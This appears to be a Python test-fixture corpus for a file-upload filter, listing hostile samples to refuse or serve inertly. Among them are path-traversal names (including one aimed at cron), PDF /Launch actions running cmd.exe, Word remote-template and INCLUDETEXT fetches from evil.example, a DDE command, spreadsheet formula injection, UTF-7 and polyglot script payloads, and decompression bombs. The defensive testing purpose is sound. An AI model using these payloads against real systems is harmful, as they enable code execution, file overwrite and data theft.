"""The corpus: what is sent under which name."""

from tests.grievances import files
from tests.uploads import hostile as made

TEMPLATE = "http://evil.example/t.dotm"
CUT = len(files.office()) // 2

# What nobody accepts: the sentence says what is wrong.
REFUSED: dict[str, bytes] = {
    # pages, drawings and programs, by whatever name
    "page.html": b"<!doctype html>" + made.SCRIPT,
    "page.xhtml": b"<html xmlns='http://www.w3.org/1999/xhtml'/>",
    "page.mht": b"MIME-Version: 1.0\n\n" + made.SCRIPT,
    "drawing.svg": made.SVG,
    "drawing as picture.png": made.SVG,
    "drawing as text.txt": made.SVG,
    "page as text.txt": b"  <!DOCTYPE html>" + made.SCRIPT,
    "page as pdf.pdf": b"<html>%PDF-1.7" + made.SCRIPT,
    "program.exe": b"MZ\x90\0" + b"\0" * 60,
    "program as word.docx": b"MZ\x90\0" + b"\0" * 60,
    "shortcut.lnk": b"L\0\0\0\x01\x14\x02\0",
    "settings.htaccess": b"AddType text/html .txt",
    "style.css": b"body{background:url(//evil.example)}",
    "script.js": b"alert(1)",
    "feed.xml": b"<?xml version='1.0'?><x/>",
    # names
    "double.txt.html": made.SCRIPT,
    "double.pdf.exe": files.pdf(),
    "no ending": files.pdf(),
    "turned\u202etxt.exe": b"MZ",
    "../../../etc/cron.d/job": b"* * * * * root sh",
    "..\\..\\start.bat": b"calc.exe",
    # two kinds in one
    "page and pdf.pdf": b"%PDF-1.7\n<html>" + made.SCRIPT + files.pdf(),
    "archive behind pdf.pdf": files.pdf() + files.office(),
    "script behind pdf.pdf": files.pdf() + made.SCRIPT,
    "archive behind picture.png": files.png() + files.office(),
    "script behind picture.jpg": files.jpeg() + made.SCRIPT,
    "moving picture and script.gif": b"GIF89a/*" + b"\0" * 9 + b"*/=1;alert(1)",
    "moving picture.png": b"GIF89a/*" + b"\0" * 9 + b"*/=1;alert(1)",
    "page before archive.docx": made.SCRIPT + files.office(),
    "archive before archive.docx": files.archive({"a.txt": b"x"}) + files.office(),
    "page behind archive.docx": files.office() + made.SCRIPT,
    # PDF documents that act
    "script.pdf": files.pdf(files.with_script),
    "launch.pdf": made.pdf_acting("/Launch", F="cmd.exe"),
    "launch apart.pdf": made.pdf_acting("/Launch", is_apart=True, F="cmd.exe"),
    "imports.pdf": made.pdf_acting("/ImportData", F="x.fdf"),
    "opens other.pdf": made.pdf_acting("/GoToR", F="\\\\evil.example\\share\\x.pdf"),
    "opens inner.pdf": made.pdf_acting("/GoToE", F="x.pdf"),
    "plays.pdf": made.pdf_acting("/Rendition"),
    "sends away.pdf": files.pdf(files.with_form_sent),
    "file inside.pdf": files.pdf(files.with_file),
    "active form.pdf": made.pdf_with_form(),
    "film.pdf": made.pdf_with_film(),
    "locked.pdf": files.pdf(user_password="secret"),
    "cut.pdf": files.pdf()[:200],
    # Word and Excel files that act, fetch or swell
    "macro.docx": files.office(word__vbaProject_dot_bin=b"x"),
    "macro.docm": files.office(word__vbaProject_dot_bin=b"x"),
    "template.docx": made.docx_relating(made.relation("attachedTemplate", TEMPLATE)),
    "template in other quotes.docx": made.docx_relating(
        made.relation("attachedTemplate", TEMPLATE, quote="'")
    ),
    "template that says link.docx": made.docx_relating(
        made.relation("attachedTemplate", "http://evil.example/relationships/hyperlink")
    ),
    "template in wide signs.docx": made.docx_relating(
        made.relation("attachedTemplate", TEMPLATE).decode().encode("utf-16")
    ),
    "frame.docx": made.docx_relating(made.relation("frame", "http://evil.example/")),
    "object.docx": files.office(word__embeddings__oleObject1_dot_bin=b"x"),
    "control.docx": files.office(word__activeX__activeX1_dot_xml=b"x"),
    "command.docx": made.docx_saying("DDEAUTO c:\\\\windows\\\\cmd.exe"),
    "fetches text.docx": made.docx_saying('INCLUDETEXT "http://evil.example/x"'),
    "other book.xlsx": files.office("xl/workbook.xml", xl__externalLinks__a_dot_xml=b"<x/>"),
    "entities.docx": made.declaring(),
    "bomb.docx": files.bomb(),
    "many parts.docx": files.archive({f"p{n}": b"" for n in range(2_001)}),
    "nests.docx": files.office(word__media__inner_dot_zip=made.in_nests(2)),
    "nests alone.docx": made.in_nests(2),
    "over each other.docx": made.overlapping(),
    "leads out.docx": files.archive({"../../etc/passwd": b"x"}),
    "locked.docx": files.locked_archive(),
    "cut.docx": files.office()[:CUT],
    "archive.zip": files.archive({"a.txt": b"x"}),
    # pictures that swell, or are none
    "huge.png": made.huge_png(),
    "huge.jpg": made.huge_jpeg(),
    "huge.heic": made.huge_heic(),
    "cut.png": files.png()[:-6],
    "cut.jpg": files.jpeg()[:-2],
    "film.heic": files.heic(b"isom"),
    # nothing at all
    "empty.pdf": b"",
    "empty.txt": b"",
}
# What nothing tells from an honest file: kept, and handed out as a download that nothing runs.
HANDED_OUT: dict[str, bytes] = {
    "words that scanners know.txt": made.EICAR,
    "words in a picture.png": made.png_saying(made.SCRIPT),
    "words in a photograph.jpg": made.jpeg_saying(made.SCRIPT),
    "formula.txt": b"=cmd|' /C calc'!A0\n",
    "seven bits.txt": b"+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "turned \u202e\u2066fdp.txt": b"Words.",
    "../../../../root/.ssh/keys.txt": b"Words.",
    'quote".txt\r\nX-Evil: 1\r\n.txt': b"Words.",
    "CON.txt": b"Words.",
    "x" * 400 + ".txt": b"Words.",
}
BOMBS = {
    name: REFUSED[name]
    for name in (
        "bomb.docx",
        "many parts.docx",
        "nests.docx",
        "nests alone.docx",
        "over each other.docx",
        "entities.docx",
        "huge.png",
        "huge.jpg",
        "huge.heic",
    )
}
